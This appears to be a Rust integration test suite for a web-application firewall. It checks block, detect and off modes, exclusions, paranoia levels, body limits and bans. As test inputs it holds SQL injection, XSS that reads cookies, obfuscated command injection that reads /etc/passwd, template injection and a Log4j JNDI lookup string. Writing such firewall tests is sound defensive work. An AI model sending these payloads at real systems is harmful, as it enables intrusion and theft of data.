//! The web-application firewall through the real edge: block, detect and
//! off modes set per site through the shield API, exclusions, per-site
//! paranoia and emergency mode, JSON and multipart bodies, bodies past
//! the inspection limit, bans fed by blocks, and benign traffic passing.
//!
//! Upstreams are Python servers on 127.0.0.1 that the tests start; no
//! traffic leaves the loopback interface.

mod common;
mod shield_support;

use common::*;
use reqwest::Method;
use serde_json::json;
use shield_support::*;

const SQLI: &str = "1' UNION SELECT password FROM users--";

/// A server with one proxy site `app.localhost` in front of a fresh
/// upstream, and an admin token.
async fn waf_server(extra: &str) -> (Server, Upstream, String) {
    let server = Server::start_with(&format!("{LOOPBACK_UPSTREAMS}[shield]\n{extra}"));
    let token = server.admin_token().await;
    let upstream = Upstream::start();
    proxy_site(&server, &token, "app.localhost", &upstream.url()).await;
    (server, upstream, token)
}

fn query(q: &[(&str, &str)]) -> String {
    let mut out = String::from("/search?");
    for (i, (k, v)) in q.iter().enumerate() {
        if i > 0 {
            out.push('&');
        }
        out.push_str(k);
        out.push('=');
        for b in v.bytes() {
            if b.is_ascii_alphanumeric() {
                out.push(b as char);
            } else {
                out.push_str(&format!("%{b:02X}"));
            }
        }
    }
    out
}

async fn get_from(server: &Server, source: &str, path: &str) -> reqwest::Response {
    get(server, &client_from(source), "app.localhost", path, &[]).await
}

async fn post(
    server: &Server,
    content_type: &str,
    body: impl Into<reqwest::Body>,
) -> reqwest::Response {
    client_from("127.0.0.1")
        .post(server.edge_url("/submit"))
        .header("host", "app.localhost")
        .header("content-type", content_type)
        .body(body)
        .send()
        .await
        .expect("edge request")
}

/// Asserts a WAF block: 403 whose body is the request id and nothing
/// else; returns the id.
async fn assert_blocked(response: reqwest::Response) -> String {
    assert_eq!(response.status(), 403);
    let id = response
        .headers()
        .get("x-request-id")
        .and_then(|v| v.to_str().ok())
        .expect("request id header")
        .to_owned();
    assert_eq!(response.text().await.expect("body"), format!("{id}\n"));
    id
}

/// Asserts the upstream answered, having read `len` body bytes.
async fn assert_forwarded(response: reqwest::Response, len: usize) {
    assert_eq!(response.status(), 200);
    assert_eq!(response.text().await.expect("body"), format!("got {len}"));
}

async fn set_waf(server: &Server, token: &str, site: &str, waf: serde_json::Value) {
    let path = format!("/sites/{site}/shield");
    let (status, body) = api(
        server,
        token,
        Method::PUT,
        &path,
        Some(json!({ "waf": waf })),
    )
    .await;
    assert_eq!(status, 200, "{body}");
}

fn multipart(field: &str, value: &str, file: &[u8]) -> (String, Vec<u8>) {
    let boundary = "sfwafboundary7";
    let mut body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"\r\n\r\n{value}\r\n\
         --{boundary}\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"notes.txt\"\r\n\
         Content-Type: text/plain\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(file);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    (format!("multipart/form-data; boundary={boundary}"), body)
}

#[tokio::test]
async fn block_mode_is_the_default_and_refuses_attacks_in_queries_json_and_multipart() {
    let (server, upstream, _token) = waf_server("").await;

    // Benign traffic passes: prose with quotes and separators, a form, a
    // JSON payload, and a multipart upload.
    let prose = "It's a nice day; isn't it? Tom & Jerry said \"hi\" -- 50% off";
    assert_forwarded(
        get_from(&server, "127.0.0.1", &query(&[("q", prose)])).await,
        0,
    )
    .await;
    let form = "name=O%27Brien&comment=Caf%C3%A9+%26+bar%3B+open+till+10";
    assert_forwarded(
        post(&server, "application/x-www-form-urlencoded", form).await,
        form.len(),
    )
    .await;
    let benign_json = json!({"title": "Don't panic", "tags": ["a&b", "c;d"], "n": 3}).to_string();
    assert_forwarded(
        post(&server, "application/json", benign_json.clone()).await,
        benign_json.len(),
    )
    .await;
    // File contents are not inspected by default: a script file uploads.
    let (ct, body) = multipart("title", "my notes", b"<script>alert(1)</script>");
    let len = body.len();
    assert_forwarded(post(&server, &ct, body).await, len).await;
    let before = upstream.count().await;
    assert_eq!(before, 4);

    // Attacks are blocked, never forwarded, and audited with the id.
    let id = assert_blocked(get_from(&server, "127.0.0.1", &query(&[("q", SQLI)])).await).await;
    wait_for_log(&server, &format!("request_id={id}")).await;
    let line = server
        .log()
        .lines()
        .find(|l| l.contains("waf.block") && l.contains(&id))
        .map(str::to_owned)
        .expect("waf.block event with the request id");
    assert!(
        line.contains("app.localhost") && line.contains("sqli"),
        "{line}"
    );

    let json_attack =
        json!({"user": {"bio": "<script>alert(document.cookie)</script>"}}).to_string();
    assert_blocked(post(&server, "application/json", json_attack).await).await;
    // `\u` escapes inside JSON are decoded before matching.
    let escaped = r#"{"q": "1\u0027 UNION SELECT password FROM users--"}"#;
    assert_blocked(post(&server, "application/json", escaped).await).await;
    let (ct, body) = multipart("title", "<svg onload=alert(1)>", b"plain file");
    assert_blocked(post(&server, &ct, body).await).await;
    assert_eq!(
        upstream.count().await,
        before,
        "no blocked request reached the upstream"
    );
}

#[tokio::test]
async fn detect_mode_passes_and_audits_and_off_mode_does_not_inspect() {
    let (server, upstream, token) = waf_server("").await;
    set_waf(&server, &token, "app.localhost", json!({"mode": "detect"})).await;
    let (status, body) = api(
        &server,
        &token,
        Method::GET,
        "/sites/app.localhost/shield",
        None,
    )
    .await;
    assert_eq!(
        (status, body["waf"]["mode"].as_str()),
        (200, Some("detect"))
    );

    let response = get_from(&server, "127.0.0.1", &query(&[("q", SQLI)])).await;
    let id = response.headers()["x-request-id"]
        .to_str()
        .expect("id")
        .to_owned();
    assert_forwarded(response, 0).await;
    wait_for_log(&server, &id).await;
    let log = server.log();
    assert!(
        log.lines()
            .any(|l| l.contains("waf.detect") && l.contains(&id)),
        "{log}"
    );
    assert!(!log.contains("waf.block"), "{log}");

    set_waf(&server, &token, "app.localhost", json!({"mode": "off"})).await;
    let response = get_from(&server, "127.0.0.1", &query(&[("q", SQLI)])).await;
    let id = response.headers()["x-request-id"]
        .to_str()
        .expect("id")
        .to_owned();
    assert_forwarded(response, 0).await;
    // The access line is written after the audit event would have been.
    wait_for_log(&server, &format!("request_id={id}")).await;
    assert!(
        !server
            .log()
            .lines()
            .any(|l| l.contains("waf.") && l.contains(&id)),
        "off mode wrote a WAF event"
    );
    assert_eq!(upstream.count().await, 2);
}

#[tokio::test]
async fn an_exclusion_lets_one_rule_through_only_where_it_applies() {
    let (server, _upstream, token) = waf_server("").await;
    let note = "see /etc/passwd for details";
    assert_blocked(get_from(&server, "127.0.0.1", &query(&[("note", note)])).await).await;

    set_waf(
        &server,
        &token,
        "app.localhost",
        json!({"exclusions": [{"rule": 4002, "arg": "note"}]}),
    )
    .await;
    assert_forwarded(
        get_from(&server, "127.0.0.1", &query(&[("note", note)])).await,
        0,
    )
    .await;
    assert_blocked(get_from(&server, "127.0.0.1", &query(&[("other", note)])).await).await;
    // Other rules still apply to the excluded argument.
    assert_blocked(get_from(&server, "127.0.0.1", &query(&[("note", SQLI)])).await).await;

    // An unknown rule id is refused by name and changes nothing.
    let (status, body) = api(
        &server,
        &token,
        Method::PUT,
        "/sites/app.localhost/shield",
        Some(json!({"waf": {"exclusions": [{"rule": 999999}]}})),
    )
    .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["error"]["field"], "waf.exclusions");
    assert_forwarded(
        get_from(&server, "127.0.0.1", &query(&[("note", note)])).await,
        0,
    )
    .await;
}

#[tokio::test]
async fn paranoia_is_per_site_and_emergency_mode_raises_it() {
    let (server, upstream, token) = waf_server("").await;
    proxy_site(&server, &token, "strict.localhost", &upstream.url()).await;
    set_waf(&server, &token, "strict.localhost", json!({"paranoia": 2})).await;

    // Two paranoia-2 rules (SQL keyword with operators, an HTML tag):
    // nothing at level 1, 7 points at level 2.
    let path = query(&[("q", "select(version)"), ("r", "<div>x</div>")]);
    let client = client_from("127.0.0.1");
    assert_forwarded(get(&server, &client, "app.localhost", &path, &[]).await, 0).await;
    assert_blocked(get(&server, &client, "strict.localhost", &path, &[]).await).await;

    let (status, body) = api(
        &server,
        &token,
        Method::PUT,
        "/sites/app.localhost/shield",
        Some(json!({"waf": {"paranoia": 5}})),
    )
    .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["error"]["field"], "waf.paranoia");

    let (status, body) = api(
        &server,
        &token,
        Method::PUT,
        "/shield/emergency",
        Some(json!({"on": true})),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert_blocked(get(&server, &client, "app.localhost", &path, &[]).await).await;
    let (status, _) = api(
        &server,
        &token,
        Method::PUT,
        "/shield/emergency",
        Some(json!({"on": false})),
    )
    .await;
    assert_eq!(status, 200);
    assert_forwarded(get(&server, &client, "app.localhost", &path, &[]).await, 0).await;
}

#[tokio::test]
async fn bodies_past_the_inspection_limit_follow_the_sites_action() {
    let (server, _upstream, token) = waf_server("").await;

    // The default limit (128 KiB) and action: a form or JSON body past it
    // is refused, so an SQLi after 130 KiB of padding cannot slip by.
    let mut padded = b"pad=".to_vec();
    padded.resize(130 * 1024, b'a');
    padded.extend_from_slice(format!("&q={}", urlencode(SQLI)).as_bytes());
    let r = post(&server, "application/x-www-form-urlencoded", padded).await;
    assert_blocked_by(&server, r, "1011").await;
    let padded_json = json!({"pad": "a".repeat(130 * 1024), "q": SQLI}).to_string();
    let r = post(&server, "application/json", padded_json).await;
    assert_blocked_by(&server, r, "1011").await;
    // Past 16 KiB and within the limit, the body is inspected off the
    // request's thread: forwarded whole when clean, refused with an attack.
    let mut mid = b"pad=".to_vec();
    mid.resize(20 * 1024, b'a');
    let len = mid.len();
    assert_forwarded(
        post(&server, "application/x-www-form-urlencoded", mid.clone()).await,
        len,
    )
    .await;
    mid.extend_from_slice(format!("&q={}", urlencode(SQLI)).as_bytes());
    assert_blocked(post(&server, "application/x-www-form-urlencoded", mid).await).await;
    // An upload past the limit is not refused: only its prefix is read.
    let (ct, body) = multipart("title", "photo", &vec![b'x'; 200 * 1024]);
    let len = body.len();
    assert_forwarded(post(&server, &ct, body).await, len).await;

    set_waf(
        &server,
        &token,
        "app.localhost",
        json!({"body_limit": 1024, "oversize": "inspect-prefix"}),
    )
    .await;

    // An attack inside the first 1024 bytes is seen.
    let mut early = format!("q={}&pad=", urlencode(SQLI)).into_bytes();
    early.resize(4096, b'a');
    assert_blocked(post(&server, "application/x-www-form-urlencoded", early).await).await;

    // Inspect-prefix: past the limit nothing is inspected, and the whole
    // body (buffered prefix plus the rest) reaches the upstream.
    let mut late = b"pad=".to_vec();
    late.resize(2000, b'a');
    late.extend_from_slice(format!("&q={}", urlencode(SQLI)).as_bytes());
    let len = late.len();
    assert_forwarded(
        post(&server, "application/x-www-form-urlencoded", late.clone()).await,
        len,
    )
    .await;
    // Also when it arrives chunked, in pieces.
    let pieces: Vec<Result<Vec<u8>, std::io::Error>> =
        late.chunks(700).map(|c| Ok(c.to_vec())).collect();
    let stream = reqwest::Body::wrap_stream(futures_util::stream::iter(pieces));
    assert_forwarded(
        post(&server, "application/x-www-form-urlencoded", stream).await,
        len,
    )
    .await;

    // Refuse: a longer body is blocked however benign; one at the limit
    // passes.
    set_waf(
        &server,
        &token,
        "app.localhost",
        json!({"body_limit": 1024, "oversize": "refuse"}),
    )
    .await;
    let mut benign = b"pad=".to_vec();
    benign.resize(1025, b'a');
    assert_blocked(post(&server, "application/x-www-form-urlencoded", benign.clone()).await).await;
    benign.truncate(1024);
    assert_forwarded(
        post(&server, "application/x-www-form-urlencoded", benign).await,
        1024,
    )
    .await;
}

#[tokio::test]
async fn blocks_feed_the_ban_counters_and_allowlisted_clients_skip_the_waf() {
    let (server, _upstream, _token) =
        waf_server("waf_blocks_per_minute = 2\nallowlist = [\"127.0.0.5/32\"]\n").await;
    let attack = query(&[("q", SQLI)]);
    for _ in 0..3 {
        assert_blocked(get_from(&server, "127.0.0.2", &attack).await).await;
    }
    wait_for_log(&server, "waf blocks").await;
    // Banned now: even a benign request is refused.
    let banned = get_from(&server, "127.0.0.2", "/").await;
    assert_eq!(banned.status(), 403);
    assert_forwarded(get_from(&server, "127.0.0.3", "/").await, 0).await;
    // The allowlisted client is not inspected.
    assert_forwarded(get_from(&server, "127.0.0.5", &attack).await, 0).await;

    let (critical, _upstream, _token) = waf_server("waf_ban_on_critical = true\n").await;
    assert_blocked(get_from(&critical, "127.0.0.2", &attack).await).await;
    wait_for_log(&critical, "waf critical").await;
    assert_eq!(get_from(&critical, "127.0.0.2", "/").await.status(), 403);
    assert_forwarded(get_from(&critical, "127.0.0.3", "/").await, 0).await;
}

fn urlencode(s: &str) -> String {
    query(&[("x", s)])
        .trim_start_matches("/search?x=")
        .to_owned()
}

/// A burst of WAF blocks from one loopback address is attributed to that
/// address in the audit log, so the detector opens the HIGH `waf_burst`
/// incident (not only the ban's incident).
#[tokio::test]
async fn a_waf_burst_from_one_ip_opens_a_high_incident() {
    let threshold = 5;
    let (server, _upstream, token) = waf_server(&format!(
        "[incidents.detection]\nwaf_blocks_per_ip = {threshold}\n"
    ))
    .await;

    // Bounded: `threshold` blocks make the burst; later requests may meet
    // the ban instead, which is fine.
    let attacker = client_from("127.0.0.9");
    for _ in 0..threshold {
        let response = get(
            &server,
            &attacker,
            "app.localhost",
            &query(&[("q", SQLI)]),
            &[],
        )
        .await;
        assert_eq!(response.status(), 403);
    }

    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
    let incident = loop {
        let (status, list) = api(&server, &token, Method::GET, "/incidents", None).await;
        assert_eq!(status, 200, "{list}");
        let found = list
            .as_array()
            .expect("incident list")
            .iter()
            .find(|i| i["rule"] == "waf_burst")
            .cloned();
        if let Some(found) = found {
            break found;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no waf_burst incident: {list}\nlog:\n{}",
            server.log()
        );
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    };
    assert_eq!(incident["severity"], "high", "{incident}");
    let ips: Vec<&str> = incident["indicators"]
        .as_array()
        .expect("indicators")
        .iter()
        .filter(|x| x["kind"] == "ip")
        .filter_map(|x| x["value"].as_str())
        .collect();
    // The audit log truncates client IPs by default; either form names
    // the attacker's address and no other.
    assert!(ips == ["127.0.0.9"] || ips == ["127.0.0.0"], "{incident}");
}

/// Asserts a block whose `waf.block` audit event names `rule`.
async fn assert_blocked_by(server: &Server, response: reqwest::Response, rule: &str) {
    let id = assert_blocked(response).await;
    wait_for_log(server, &format!("request_id={id}")).await;
    let line = server
        .log()
        .lines()
        .find(|l| l.contains("waf.block") && l.contains(&id))
        .map(str::to_owned)
        .expect("waf.block event with the request id");
    let rules = line
        .split_whitespace()
        .find_map(|w| w.strip_prefix("rules="))
        .unwrap_or_default()
        .trim_matches('"')
        .to_owned();
    assert!(
        rules.split(',').any(|r| r == rule),
        "rule {rule} missing: {line}"
    );
}

#[tokio::test]
async fn attacks_in_the_path_user_agent_any_header_and_templates_are_blocked() {
    let (server, upstream, _token) = waf_server("").await;
    let client = client_from("127.0.0.1");

    // SQL injection in a path segment.
    let r = get(
        &server,
        &client,
        "app.localhost",
        "/item/1'%20OR%20'1'='1",
        &[],
    )
    .await;
    assert_blocked_by(&server, r, "2004").await;
    // SQL injection in the User-Agent.
    let ua = [("user-agent", "' UNION SELECT password FROM users--")];
    assert_blocked_by(
        &server,
        get(&server, &client, "app.localhost", "/", &ua).await,
        "2002",
    )
    .await;
    // Command injection hidden with quotes, backslashes and expansions.
    for h in [
        "x;c''at%20/e''tc/pa''sswd",
        "x;c%5Cat%20/etc/passwd",
        "x;c$@at%20/etc/passwd",
        "x;cat${IFS}/etc/passwd",
    ] {
        let r = get(
            &server,
            &client,
            "app.localhost",
            &format!("/run?h={h}"),
            &[],
        )
        .await;
        assert_blocked_by(&server, r, "5001").await;
    }
    // Server-side template injection.
    let r = get(
        &server,
        &client,
        "app.localhost",
        "/hello?n={{7*7}}{{config.__class__}}",
        &[],
    )
    .await;
    assert_blocked_by(&server, r, "7001").await;
    // A Log4j lookup in a header nobody configured.
    let jndi = [("x-api-version", "${jndi:ldap://x/a}")];
    assert_blocked_by(
        &server,
        get(&server, &client, "app.localhost", "/", &jndi).await,
        "7004",
    )
    .await;
    assert_eq!(upstream.count().await, 0, "no attack reached the upstream");

    // Their benign look-alikes pass.
    let browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
                   (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
    for (path, headers) in [
        ("/blog/don't-panic-it's-fine", vec![]),
        ("/item/42", vec![("user-agent", browser)]),
        ("/search?q=it's%20O'Brien's%20cat", vec![]),
        (
            "/docs?q=use%20{{%20user.name%20}}%20in%20templates",
            vec![("x-note", "price is ${amount}")],
        ),
    ] {
        let r = get(&server, &client, "app.localhost", path, &headers).await;
        assert_forwarded(r, 0).await;
    }
}
